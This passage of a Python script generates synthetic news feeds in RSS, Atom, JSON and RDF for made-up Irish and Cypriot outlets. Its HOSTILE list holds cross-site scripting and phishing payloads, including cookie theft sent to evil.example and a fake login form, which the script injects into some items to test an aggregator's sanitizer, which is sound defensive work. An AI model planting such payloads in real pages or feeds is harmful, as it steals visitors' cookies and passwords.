        "τις αντιδράσεις μερίδας κατοίκων|την έλλειψη χρηματοδότησης|τις κακές καιρικές συνθήκες|"
        "τη νομική προσφυγή|το αυξημένο κόστος κατασκευής|τις καθυστερήσεις στις αδειοδοτήσεις"
    ),
    "will_phrase": words(
        "θα προχωρήσει κανονικά|θα καθυστερήσει μέχρι {future_time}|θα κοστίσει περισσότερα|"
        "θα επανεξεταστεί|ενδέχεται να ακυρωθεί|θα χρηματοδοτηθεί από κρατικά κονδύλια"
    ),
    "work_status": words(
        "αναμένεται να ξεκινήσουν {future_time}|έχουν σταματήσει|βρίσκονται στο τελικό στάδιο|"
        "ξανάρχισαν {time}|θα διαρκέσουν {months} μήνες|προχωρούν με γοργούς ρυθμούς"
    ),
    "weather_sentence": words(
        ""
        "Κίτρινη προειδοποίηση για καταιγίδες εξέδωσε το Τμήμα Μετεωρολογίας "
        "για τις ορεινές περιοχές.|"
        "Η θερμοκρασία στο εσωτερικό αναμένεται να ανέλθει στους {hot} βαθμούς Κελσίου.|"
        "Ισχυρές βροχοπτώσεις σημειώθηκαν {loc}, με {mm} χιλιοστά βροχής μέσα σε λίγες ώρες.|"
        "Τα φράγματα παρουσιάζουν πληρότητα μόλις {pct}%, σύμφωνα με το Τμήμα Αναπτύξεως Υδάτων.|"
        "Χιόνι έπεσε στο Τρόοδος και ο δρόμος προς την πλατεία παραμένει κλειστός.|"
        "Αυξημένα επίπεδα σκόνης καταγράφηκαν {loc} και οι ευπαθείς ομάδες καλούνται "
        "να μείνουν σε εσωτερικούς χώρους."
    ),
    "sport_sentence": [lambda rng: el_sport_sentence(rng)],
    "deadline": words("την Παρασκευή|το τέλος του μήνα|τις 15 Δεκεμβρίου|τις 10 Ιανουαρίου"),
    "year": words("2015|2017|2018|2019|2020|2021|2022"),
    "months": words("τρεις|τέσσερις|έξι|οκτώ|δώδεκα|δεκαοκτώ"),
    "person": [el_person],
    "place_gen": [lambda rng: rng.choice(EL_PLACES)[1]],
    "place_nom": [lambda rng: rng.choice(EL_PLACES)[0]],
    "loc": [lambda rng: rng.choice(EL_PLACES)[2]],
    "number": [number_el],
    "pct": [lambda rng: str(rng.randint(3, 64))],
    "amount": [
        lambda rng: rng.choice(
            [
                f"{rng.randint(1, 48)},{rng.randint(1, 9)} εκατ. ευρώ",
                f"{rng.randint(20, 990)}.000 ευρώ",
            ]
        )
    ],
    "rent": [lambda rng: f"{rng.randint(1, 2)}.{rng.randint(100, 950)}"],
    "mm": [lambda rng: str(rng.randint(20, 60))],
    "hot": [lambda rng: str(rng.randint(38, 44))],
}
EL_HEADLINES = [
    "{place_nom}: {subj} {verb} {obj}",
    "Λειψυδρία: νέες διακοπές νερού {loc}",
    "Πυρκαγιά {loc} – σε ετοιμότητα η Πυροσβεστική",
    "Αύξηση {pct}% στις αφίξεις τουριστών {loc}",
    "Στεγαστικό: {number} νέες κατοικίες {loc}",
    "Κυκλοφοριακές ρυθμίσεις {loc} λόγω έργων",
    "Αντιδράσεις κατοίκων για {topic_acc} {loc}",
    "{number} συλλήψεις σε επιχείρηση της Αστυνομίας {loc}",
    "Κίτρινη προειδοποίηση για καταιγίδες και χαλάζι",
    "Σε δημόσια διαβούλευση {neut} {place_gen}",
    "Ενοίκια: αύξηση {pct}% {loc} μέσα σε έναν χρόνο",
    "{place_nom}: «{quote}»",
    "Καθυστερήσεις στα έργα {loc}",
    "Νέα χρηματοδότηση {amount} για {topic_acc}",
    "Διακοπή ρεύματος σε {number} νοικοκυριά {loc}",
    "Το δημοτικό συμβούλιο {place_gen} ενέκρινε {obj}",
]
EL_SECTIONS = [
    ("Ειδήσεις", "eidiseis"),
    ("Τοπικά", "topika"),
    ("Οικονομία", "oikonomia"),
    ("Αθλητικά", "athlitika"),
    ("Κοινωνία", "koinonia"),
    ("Τουρισμός", "tourismos"),
    ("Πολιτική", "politiki"),
]
EL_CATEGORIES = words(
    "Ειδήσεις|Τοπικά|Οικονομία|Αθλητικά|Κοινωνία|Τουρισμός|Πολιτική|Περιβάλλον|Υγεία|"
    "Παιδεία|Καιρός|Αστυνομικά|Στέγαση|Ύδρευση|Μεταφορές|Πολιτισμός"
)
EL_OUTLETS = [
    ("Λεμεσιανή Ενημέρωση", "lemesiani-enimerosi"),
    ("Ηχώ της Πάφου", "ixo-pafou"),
    ("Λαρνακαϊκά Νέα", "larnakaika-nea"),
    ("Φωνή της Αμμοχώστου", "foni-ammochostou"),
    ("Νέα της Λευκωσίας", "nea-lefkosias"),
    ("Ορεινή Κύπρος", "oreini-kypros"),
    ("Ο Αγώνας της Επαρχίας", "agonas-eparchias"),
    ("Παραλιμνίτικα Νέα", "paralimnitika-nea"),
]

IE_OUTLETS = words(
    "Connacht Tribune|Western People|Limerick Leader|Sligo Champion|Kerryman|Clare Champion|"
    "Galway Advertiser|Mayo News|Southern Star|Donegal Democrat|Tuam Herald|Leitrim Observer|"
    "Roscommon Herald|Westmeath Independent|Munster Express|Kilkenny People|Nenagh Guardian|"
    "Dungarvan Observer|Anglo-Celt|Longford Leader|Offaly Express|Wicklow People|"
    "Drogheda Independent|"
    "Galway Bay FM|Radio Kerry|Clare FM|Midwest Radio|Ocean FM|Highland Radio|WLR FM|Shannonside|"
    "Tipp FM|Connemara Journal|Corca Dhuibhne News|Inishowen Independent|Limerick Post|"
    "Cork Evening Echo|Carlow Nationalist|Laois Voice|Westport Courier|Ballina Chronicle"
)
IE_SECTIONS = words(
    "News|Sport|GAA|Business|Community|Opinion|Lifestyle|Courts|Property|Farming|Tourism|Islands"
)
IE_CATEGORIES = words(
    "News|Local News|Sport|GAA|Hurling|Football|Rugby|Business|Community|Opinion|Courts|"
    "Property|Farming|Tourism|Weather|Transport|Housing|Health|Education|Environment|"
    "Politics|Arts|Gaeltacht|Islands|Water"
)
CY_OUTLETS = words(
    "Limassol Today|Paphos Post|Larnaca Herald|Famagusta Gazette|Nicosia Times|Troodos Courier|"
    "Island Chronicle|Coral Coast News|Akamas Weekly|Mesaoria Monitor|Cyprus Regional Wire"
)
CY_SECTIONS = words("News|Tourism|Business|Sport|Property|Politics|Environment|Community")
CY_CATEGORIES = words(
    "Cyprus|News|Tourism|Business|Sport|Football|Property|Politics|Environment|Water|"
    "Energy|Transport|Crime|Health|Education|Weather|Culture|Municipalities"
)

# Items that carry one of these test the aggregator's sanitizer (a few per cent of items).
HOSTILE = [
    "<script>document.write('<img src=\"https://tracker.example/p.gif?u='"
    "+document.cookie+'\">');</script>",
    "<p onclick=\"window.location='https://ads.example/click?src=feed'\">"
    "Tap here for the full gallery.</p>",
    '<p>See the <a href="javascript:alert(document.domain)">photo gallery</a> from the day.</p>',
    '<img src="https://cdn.example/x.jpg" '
    'onerror="fetch(\'https://evil.example/?c=\'+document.cookie)" alt="">',
    '<iframe src="https://ads.example/frame?slot=7" width="1" height="1" '
    'style="display:none"></iframe>',
    "<style>body { display: none !important; } .paywall { visibility: visible; }</style>",
    '<form action="https://phish.example/login" method="post">'
    '<input name="pw" type="password"><button>Log in to keep reading</button></form>',
    '<p><a href="JaVaScRiPt:void(0)" onmouseover="steal()">Subscribe to our newsletter</a></p>',
    '<object data="https://evil.example/player.swf" type="application/x-shockwave-flash"></object>',
    '<svg onload="alert(1)"><circle r="4"></circle></svg>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%" '
    "onmouseover=\"location='https://ads.example/'\">Advertisement</p>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'
    "Download the programme</a>",
]


STRAIGHT = str.maketrans("’‘“”", "''\"\"")


def cap(text):
    return text[:1].upper() + text[1:] if text else text


SLOT = re.compile(r"\{(\w+)\}")


class Grammar:
    """Fills templates: `{slot}` is replaced by one alternative of that slot, itself filled; a
    `_cap` suffix capitalizes the result. An alternative may be a function of the PRNG."""

    def __init__(self, rng, *tables):
        self.rng = rng
        self.table = {}
        for table in tables:
            for key, value in table.items():
                self.table[key] = value if isinstance(value, list) else [value]

    def fill(self, template, depth=0):
        def one(match):
            name = match.group(1)
            capital = name.endswith("_cap")
            if capital:
                name = name[: -len("_cap")]
            choices = self.table.get(name)
            if choices is None:
                raise KeyError(f"no slot {name!r} in {template!r}")
            choice = self.rng.choice(choices)
            text = choice(self.rng) if callable(choice) else choice
            if depth < 8:
                text = self.fill(text, depth + 1)
            return cap(text) if capital else text

        return SLOT.sub(one, template)

    def pick(self, name):
        return self.fill("{" + name + "}")


class Voice:
    """What a feed's text sounds like: its language, region, vocabulary and outlet."""

    def __init__(self, rng, region, greek, smart):
        self.rng = rng
        self.region = region
        self.greek = greek
        # Typographic quotes and apostrophes, or straight ones: a per-outlet habit.
        self.smart = smart
        if greek:
            self.grammar = Grammar(rng, EL)
            self.headlines = EL_HEADLINES
            self.categories = EL_CATEGORIES
        elif region == "ie":
            self.grammar = Grammar(rng, EN_COMMON, EN_FUNCS, IE, IE_HL)
            self.headlines = IE_HEADLINES
            self.categories = IE_CATEGORIES
        else:
            self.grammar = Grammar(rng, EN_COMMON, EN_FUNCS, CY, CY_HL)
            self.headlines = CY_HEADLINES
            self.categories = CY_CATEGORIES

    def typography(self, text):
        if "{" in text:
            raise ValueError(f"unfilled slot in {text!r}")
        if self.smart:
            return text
        return text.translate(STRAIGHT)

    def sentence(self):
        return self.typography(cap(self.grammar.pick("sentence")))

    def headline(self):
        return self.typography(cap(self.grammar.fill(self.rng.choice(self.headlines))))

    def author(self):
        if self.greek:
            first = EL_FIRST_M if self.rng.random() < 0.5 else EL_FIRST_F
            return f"{self.rng.choice(first)} {self.rng.choice(EL_LAST)}"
        return self.typography(f"{self.grammar.pick('first')} {self.grammar.pick('last')}")

    def place(self):
        if self.greek:
            return self.rng.choice(EL_PLACES)[0]
        return self.typography(self.grammar.pick("place"))

    def phrase(self):
        """A few words for a link, a caption or a list item."""
        if self.greek:
            return cap(self.grammar.pick(self.rng.choice(["obj", "topic_acc", "neut"])))
        slot = self.rng.choice(["topic", "thing_plural", "project"])
        return self.typography(cap(self.grammar.pick(slot)))


# --- HTML content. -----------------------------------------------------------------------------


def html_text(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def html_attribute(text):
    return html_text(text).replace('"', "&quot;")


def paragraph(voice, rng, links):
    sentences = [voice.sentence() for _ in range(rng.randint(1, 4))]
    body = " ".join(html_text(s) for s in sentences)
    if rng.random() < 0.25:
        target = rng.choice(links)
        anchor = html_text(voice.phrase())
        see = " Δείτε:" if voice.greek else ""
        body += f'{see} <a href="{target}">{anchor}</a>.'
    if rng.random() < 0.08:
        body = f"<strong>{html_text(voice.place())}</strong> – {body}"
    elif rng.random() < 0.06:
        body = f"<em>{body}</em>"
    return f"<p>{body}</p>"


def figure(voice, rng, domain, number):
    w, h = rng.choice([(800, 450), (1200, 675), (640, 427), (1024, 768)])
    caption = html_text(voice.sentence())
    src = f"https://cdn.{domain}/images/2026/11/{number}-{rng.randint(1, 9)}.jpg"
    if rng.random() < 0.5:
        return (
            f'<figure><img src="{src}" alt="{html_attribute(voice.phrase())}" '
            f'width="{w}" height="{h}" '
            f'loading="lazy"><figcaption>{caption}</figcaption></figure>'
        )
    return f'<p><img src="{src}" alt="" width="{w}" height="{h}"></p>'


def blockquote(voice):
    text = html_text(voice.sentence() + " " + voice.sentence())
    return f"<blockquote><p>{text}</p></blockquote>"


def bullet_list(voice, rng):
    tag = "ul" if rng.random() < 0.75 else "ol"
    items = "".join(f"<li>{html_text(voice.phrase())}</li>" for _ in range(rng.randint(3, 6)))
    return f"<{tag}>{items}</{tag}>"


def embed(rng, domain, number):
    if rng.random() < 0.5:
        return (
            f'<blockquote class="twitter-tweet"><p lang="en">Crowds gathering now '
            f'<a href="https://x.example/{domain.split(".")[0]}/status/'
            f'{number}{rng.randint(100, 999)}">pic</a>'
            f"</p></blockquote>"
            f'<script async src="https://platform.x.example/widgets.js" charset="utf-8"></script>'
        )
    return (
        f'<iframe width="560" height="315" src="https://www.youtube.example/embed/v{number:x}" '
        f'frameborder="0" allowfullscreen></iframe>'
    )


def content_html(voice, rng, domain, number, links, target, hostile):
    """An item's HTML: blocks added until it reaches about `target` bytes (UTF-8)."""
    blocks = [paragraph(voice, rng, links)]
    size = len(blocks[0].encode())
    had_figure = False
    while size < target:
        roll = rng.random()
        if roll < 0.10 and not had_figure:
            block = figure(voice, rng, domain, number)
            had_figure = True
        elif roll < 0.16:
            block = blockquote(voice)
        elif roll < 0.22:
            block = bullet_list(voice, rng)
        elif roll < 0.26 and len(blocks) > 2:
            block = f"<h3>{html_text(voice.phrase())}</h3>"
        elif roll < 0.27:
            block = embed(rng, domain, number)
        else:
            block = paragraph(voice, rng, links)
        blocks.append(block)
        size += len(block.encode())
    if rng.random() < 0.03:
        blocks.append(
            f'<img src="https://pixel.{domain}/t.gif?a={number}" width="1" height="1" alt="">'
        )
    if hostile:
        blocks.insert(rng.randint(1, len(blocks)), rng.choice(HOSTILE))
    return "\n".join(blocks)


def summary_of(html_content, limit=280):
    """The first sentence(s) of the content as plain text, cut at a word."""
    first = re.search(r"<p>(.*?)</p>", html_content, re.S)
    text = re.sub(r"<[^>]+>", "", first.group(1) if first else html_content)
    text = text.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
    if len(text) <= limit:
        return text
    return text[:limit].rsplit(" ", 1)[0] + "…"


# --- Links and slugs. ----------------------------------------------------------------------------

GREEKLISH = dict(
    zip(
        "αβγδεζηθικλμνξοπρσςτυφχψωάέήίόύώϊΐϋΰ",
        "a b g d e z i th i k l m n x o p r s s t y f ch ps o a e i i o y o i i y y".split(),
    )
)


def slugify(text):
    text = text.lower().replace("ου", "ou").replace("ού", "ou")
    text = "".join(GREEKLISH.get(c, c) for c in text)
    text = text.translate(str.maketrans("áéíóúàèìòùâêîôûäëïöüç’'", "aeiouaeiouaeiouaeiouc  "))
    slug = re.sub(r"[^a-z0-9]+", "-", text).strip("-")
    return "-".join(slug.split("-")[:9])


# --- One feed. ----------------------------------------------------------------------------------


class Feed:
    """Everything a feed says, before it is written in a format. `scale` stretches or shrinks
    its items' content (see `build`); `attempt` reseeds it."""

    def __init__(self, index, region, greek, cp1252, fmt, scale=1.0, attempt=0):
        self.index = index
        self.region = region
        self.greek = greek
        self.cp1252 = cp1252
        self.fmt = fmt
        seed = f"{SEED}:{index}:{region}:{int(greek)}:{int(cp1252)}:{fmt}"
        rng = random.Random(seed if attempt == 0 else f"{seed}:{attempt}")
        self.rng = rng
        # cp1252 feeds are there for their typographic quotes and dashes.
        voice = Voice(rng, region, greek, smart=cp1252 or greek or rng.random() < 0.6)
        tz = CYPRUS if region == "cy" else IRELAND
        if greek:
            self.outlet, self.domain = rng.choice(EL_OUTLETS)
            self.section, section_slug = rng.choice(EL_SECTIONS)
            self.language = "el"
            self.description = f"{self.outlet}: {self.section} – οι τελευταίες ειδήσεις"
        else:
            outlets = IE_OUTLETS if region == "ie" else CY_OUTLETS
            sections = IE_SECTIONS if region == "ie" else CY_SECTIONS
            self.outlet = rng.choice(outlets)
            self.section = rng.choice(sections)
            section_slug = slugify(self.section)
            self.domain = slugify(self.outlet).replace("-", "")
            self.language = "en-IE" if region == "ie" else "en-CY"
            self.description = f"{self.section}: the latest from {self.outlet}"
        self.domain += ".example"
        self.host = f"www.{self.domain}"
        self.title = f"{self.outlet} – {self.section}"
        self.home = f"https://{self.host}/{section_slug}/"
        self.self_url = f"https://{self.host}/{section_slug}/feed/"
        count = rng.randint(20, 50)
        # Bytes per item, all in: most feeds ~2 KB, some terse (~1 KB), some long reads (~4 KB).
        per_item = min(max(rng.lognormvariate(7.465, 0.45), 1050), 3900)
        # What an item costs besides its content (title, link, id, dates, summary, markup).
        overhead = 900 if greek else 650
        newest = NEWEST.astimezone(tz) - timedelta(minutes=rng.randint(0, 720))
        spacing = rng.choice([25, 45, 90, 180, 360, 720])
        # Article numbers: 100 per feed, so no two feeds share a link or an id.
        base_number = 4_100_000 + index * 100
        links = [f"{self.home}{base_number + rng.randint(0, 99) - 5_000}/" for _ in range(4)]
        hostile_rate = 0.12 if rng.random() < 0.15 else 0.01
        self.items = []
        published = newest
        for j in range(count):
            number = base_number + j
            headline = voice.headline()
            if greek:
                link = f"{self.home}{number}/{slugify(headline)}/"
            else:
                link = f"{self.home}{slugify(headline)}-{number}/"
            target = max(per_item - overhead, 300) * rng.uniform(0.6, 1.4) * scale
            hostile = rng.random() < hostile_rate
            content = content_html(voice, rng, self.domain, number, links, target, hostile)
            categories = rng.sample(voice.categories, rng.randint(1, 3))
            updated = published + timedelta(minutes=rng.choice([0, 0, 0, 12, 45, 130]))
            image = None
            if rng.random() < 0.3:
                image = f"https://cdn.{self.domain}/images/2026/11/{number}-t.jpg"
            self.items.append(
                {
                    "number": number,
                    "title": headline,
                    "link": link,
                    "author": voice.author(),
                    "categories": categories,
                    "published": published,
                    "updated": updated,
                    "content": content,
                    "summary": summary_of(content),
                    "image": image,
                    "hostile": hostile,
                }
            )
            published -= timedelta(minutes=spacing * rng.uniform(0.3, 1.7))

    def render(self):
        """The file's bytes."""
        if self.fmt == "rss2":
            text = rss2(self)
        elif self.fmt == "atom":
            text = atom(self)
        elif self.fmt == "json":
            text = json_feed(self)
        else:
            text = rdf(self)
        return text.encode("cp1252" if self.cp1252 else "utf-8")


def build(spec):
    """The feed of `spec` and its bytes, within MIN_FEED_BYTES..MAX_FEED_BYTES: a feed that
    comes out of bounds is made again with its content scaled to fit (deterministically)."""
    scale = 1.0
    for attempt in range(8):
        feed = Feed(*spec, scale=scale, attempt=attempt)
        data = feed.render()
        if MIN_FEED_BYTES <= len(data) <= MAX_FEED_BYTES:
            return feed, data
        bound = MIN_FEED_BYTES * 1.05 if len(data) < MIN_FEED_BYTES else MAX_FEED_BYTES * 0.95
        scale *= bound / len(data)
    raise RuntimeError(f"feed {spec} stays out of bounds: {len(data)} bytes")


def esc(text):
    return xml_escape(text, {'"': "&quot;"})


def cdata(text):
    return "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def rfc822(date, gmt=False):
    return (
        format_datetime(date.astimezone(timezone.utc), usegmt=True)
        if gmt
        else format_datetime(date)
    )


def rfc3339(date, zulu=False):
    if zulu:
        return date.astimezone(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
    return date.isoformat()


GENERATORS = ["WordPress 6.7", "Newspack", "Arc XP", "Drupal 10", "Joomla! 5"]


def rss2(feed):
    rng = feed.rng
    encoding = "windows-1252" if feed.cp1252 else "UTF-8"
    gmt = feed.region == "ie" and rng.random() < 0.5
    in_cdata = rng.random() < 0.7
    full_in_description = rng.random() < 0.25
    out = [
        f'<?xml version="1.0" encoding="{encoding}"?>',
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom" '
        'xmlns:media="http://search.yahoo.com/mrss/">',
        "<channel>",
        f"<title>{esc(feed.title)}</title>",
        f"<link>{esc(feed.home)}</link>",
        f"<description>{esc(feed.description)}</description>",
        f"<language>{feed.language.lower()}</language>",
        f"<lastBuildDate>{rfc822(feed.items[0]['updated'], gmt)}</lastBuildDate>",
        f'<atom:link href="{esc(feed.self_url)}" rel="self" type="application/rss+xml"/>',
        f"<generator>{rng.choice(GENERATORS)}</generator>",
        f"<image><url>https://cdn.{feed.domain}/logo.png</url><title>{esc(feed.title)}</title>"
        f"<link>{esc(feed.home)}</link></image>",
    ]
    body = (lambda html: cdata(html)) if in_cdata else esc
    for item in feed.items:
        out.append("<item>")
        out.append(f"<title>{esc(item['title'])}</title>")
        out.append(f"<link>{esc(item['link'])}</link>")
        if item["number"] % 3 == 0:
            out.append(
                f'<guid isPermaLink="false">{feed.domain.split(".")[0]}-{item["number"]}</guid>'
            )
        else:
            out.append(f'<guid isPermaLink="true">{esc(item["link"])}</guid>')
        out.append(f"<pubDate>{rfc822(item['published'], gmt)}</pubDate>")
        out.append(f"<dc:creator>{esc(item['author'])}</dc:creator>")
        for category in item["categories"]:
            out.append(f"<category>{esc(category)}</category>")
        if full_in_description:
            out.append(f"<description>{body(item['content'])}</description>")
        else:
            out.append(f"<description>{body(item['summary'])}</description>")
            out.append(f"<content:encoded>{body(item['content'])}</content:encoded>")
        if item["image"]:
            out.append(
                f'<enclosure url="{esc(item["image"])}" '
                f'length="{48_000 + item["number"] % 90_000}" type="image/jpeg"/>'
            )
        out.append("</item>")
    out += ["</channel>", "</rss>", ""]
    return "\n".join(out)


def atom(feed):
    rng = feed.rng
    zulu = rng.random() < 0.4
    tag_ids = rng.random() < 0.6
    out = [
        '<?xml version="1.0" encoding="utf-8"?>',
        f'<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="{feed.language}">',
        f"<title>{esc(feed.title)}</title>",
        f"<subtitle>{esc(feed.description)}</subtitle>",
        f'<link rel="alternate" type="text/html" href="{esc(feed.home)}"/>',
        f'<link rel="self" type="application/atom+xml" href="{esc(feed.self_url)}"/>',
        f"<id>{esc(feed.home)}</id>",
        f"<updated>{rfc3339(feed.items[0]['updated'], zulu)}</updated>",
        f"<rights>© 2026 {esc(feed.outlet)}</rights>",
        f"<icon>https://cdn.{feed.domain}/icon.png</icon>",
    ]
    for item in feed.items:
        entry_id = f"tag:{feed.domain},2026:article-{item['number']}" if tag_ids else item["link"]
        out.append("<entry>")
        out.append(f"<title>{esc(item['title'])}</title>")
        out.append(f'<link rel="alternate" type="text/html" href="{esc(item["link"])}"/>')
        out.append(f"<id>{esc(entry_id)}</id>")
        out.append(f"<published>{rfc3339(item['published'], zulu)}</published>")
        out.append(f"<updated>{rfc3339(item['updated'], zulu)}</updated>")
        out.append(f"<author><name>{esc(item['author'])}</name></author>")
        for category in item["categories"]:
            out.append(f'<category term="{esc(category)}"/>')
        out.append(f"<summary>{esc(item['summary'])}</summary>")
        out.append(f'<content type="html">{esc(item["content"])}</content>')
        if item["image"]:
            out.append(f'<link rel="enclosure" type="image/jpeg" href="{esc(item["image"])}"/>')
        out.append("</entry>")
    out += ["</feed>", ""]
    return "\n".join(out)


def json_feed(feed):
    rng = feed.rng
    zulu = rng.random() < 0.4
    url_ids = rng.random() < 0.5
    document = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": feed.title,
        "home_page_url": feed.home,
        "feed_url": feed.self_url,
        "description": feed.description,
        "language": feed.language,
        "icon": f"https://cdn.{feed.domain}/icon.png",
        "authors": [{"name": feed.outlet, "url": f"https://{feed.host}/"}],
        "items": [],
    }
    for item in feed.items:
        entry = {
            "id": item["link"] if url_ids else f"{feed.domain}-{item['number']}",
            "url": item["link"],
            "title": item["title"],
            "content_html": item["content"],
            "summary": item["summary"],
            "date_published": rfc3339(item["published"], zulu),
            "authors": [{"name": item["author"]}],
            "tags": item["categories"],
        }
        if item["updated"] != item["published"]:
            entry["date_modified"] = rfc3339(item["updated"], zulu)
        if item["image"]:
            entry["image"] = item["image"]
        document["items"].append(entry)
    indent = 2 if rng.random() < 0.5 else None
    return json.dumps(document, ensure_ascii=False, indent=indent) + "\n"


def rdf(feed):
    rng = feed.rng
    zulu = rng.random() < 0.5
    out = [
        '<?xml version="1.0" encoding="utf-8"?>',
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        'xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/" '
        'xmlns:content="http://purl.org/rss/1.0/modules/content/">',
        f'<channel rdf:about="{esc(feed.self_url)}">',
        f"<title>{esc(feed.title)}</title>",
        f"<link>{esc(feed.home)}</link>",
        f"<description>{esc(feed.description)}</description>",
        f"<dc:language>{feed.language}</dc:language>",
        f"<dc:date>{rfc3339(feed.items[0]['updated'], zulu)}</dc:date>",
        "<items><rdf:Seq>",
    ]
    out += [f'<rdf:li rdf:resource="{esc(item["link"])}"/>' for item in feed.items]
    out += ["</rdf:Seq></items>", "</channel>"]
    for item in feed.items:
        out.append(f'<item rdf:about="{esc(item["link"])}">')
        out.append(f"<title>{esc(item['title'])}</title>")
        out.append(f"<link>{esc(item['link'])}</link>")
        out.append(f"<description>{esc(item['summary'])}</description>")
        out.append(f"<content:encoded>{cdata(item['content'])}</content:encoded>")
        out.append(f"<dc:creator>{esc(item['author'])}</dc:creator>")
        for category in item["categories"]:
            out.append(f"<dc:subject>{esc(category)}</dc:subject>")
        out.append(f"<dc:date>{rfc3339(item['published'], zulu)}</dc:date>")
        out.append("</item>")
    out += ["</rdf:RDF>", ""]
    return "\n".join(out)


# --- The corpus. --------------------------------------------------------------------------------


def plan(count):
    """(index, region, greek, cp1252, format) for each feed, 1-based: the first count // 2
    Irish, the rest Cypriot; the format from FORMAT_CYCLE; 3 of every 10 Cypriot feeds Greek
    and 1 of every 6 Irish RSS 2.0 feeds windows-1252, at seeded places in each run of 10 or 6
    (so that they fall on every format, and the shares hold for any COUNT)."""

    def chosen(kind, position, run, picks):
        block, offset = divmod(position, run)
        return offset in random.Random(f"{SEED}:{kind}:{block}").sample(range(run), picks)

    irish = count // 2
    feeds = []
    irish_rss2 = 0
    for index in range(1, count + 1):
        fmt = FORMAT_CYCLE[(index - 1) % len(FORMAT_CYCLE)]
        greek = cp1252 = False
        if index <= irish:
            region = "ie"
            if fmt == "rss2":
                cp1252 = chosen("cp1252", irish_rss2, 6, 1)
                irish_rss2 += 1
        else:
            region = "cy"
            greek = chosen("greek", index - irish - 1, 10, 3)
        feeds.append((index, region, greek, cp1252, fmt))
    return feeds


def file_name(index, region, greek, cp1252, fmt):
    flavour = "-el" if greek else "-cp1252" if cp1252 else ""
    return f"{index:04d}-{region}{flavour}-{fmt}.{EXTENSIONS[fmt]}"


def main(argv):
    if len(argv) != 3 or not argv[2].isdigit() or int(argv[2]) < 1:
        sys.stderr.write("usage: corpus.py OUTDIR COUNT\n")
        return 2
    outdir, count = argv[1], int(argv[2])
    os.makedirs(outdir, exist_ok=True)
    total_bytes = total_items = greek = cp1252 = 0
    formats = {fmt: 0 for fmt in ("rss2", "atom", "json", "rdf")}
    smallest, largest = None, 0
    for spec in plan(count):
        feed, data = build(spec)
        name = file_name(*spec)
        with open(os.path.join(outdir, name), "wb") as out:
            out.write(data)
        print(name)
        total_bytes += len(data)
        total_items += len(feed.items)
        formats[feed.fmt] += 1
        greek += feed.greek
        cp1252 += feed.cp1252
        smallest = len(data) if smallest is None else min(smallest, len(data))
        largest = max(largest, len(data))
    split = ", ".join(f"{fmt} {n}" for fmt, n in formats.items())
    sys.stderr.write(
        f"corpus: {count} files, {total_bytes} bytes ({total_bytes / 1e6:.1f} MB), "
        f"{total_items} items; formats: {split}; Greek {greek}, windows-1252 {cp1252}; "
        f"feeds {smallest / 1e3:.0f}-{largest / 1e3:.0f} KB\n"
        f"corpus per feed: {total_bytes / count / 1e3:.1f} KB, {total_items / count:.1f} items "
        f"on average (targets: ~{TARGET_FEED_BYTES / 1e3:.0f} KB, ~{TARGET_FEED_ITEMS} items)\n"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
